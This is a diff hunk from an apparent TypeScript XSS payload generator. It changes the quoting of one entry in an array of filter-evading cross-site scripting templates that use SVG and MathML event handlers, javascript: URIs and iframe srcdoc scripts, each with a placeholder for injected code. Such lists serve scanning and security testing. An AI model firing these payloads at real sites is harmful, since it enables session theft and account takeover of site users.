@@ -77,7 +77,7 @@ const templates: string[] = [
   '<svg><set attributeName=onmouseover to={J}>',
   '<svg><discard onbegin={J}>',
   '<svg><a xlink:href="javascript:{J}"><text x=20 y=20>click</text></a></svg>',
-  '<svg><use href="data:image/svg+xml,<svg id=\'x\' xmlns=\'http://www.w3.org/2000/svg\'><image href=\'1\' onerror=\'{J}\'/></svg>#x"/></svg>',
+  "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='{J}'/></svg>#x\"/></svg>",
   '<svg><foreignObject><iframe srcdoc="<script>parent.{J}</script>"></iframe></foreignObject></svg>',
   '<math><mi xlink:href="javascript:{J}">x</mi></math>',
   '<math><maction actiontype="statusline" xlink:href="javascript:{J}">x</maction></math>',
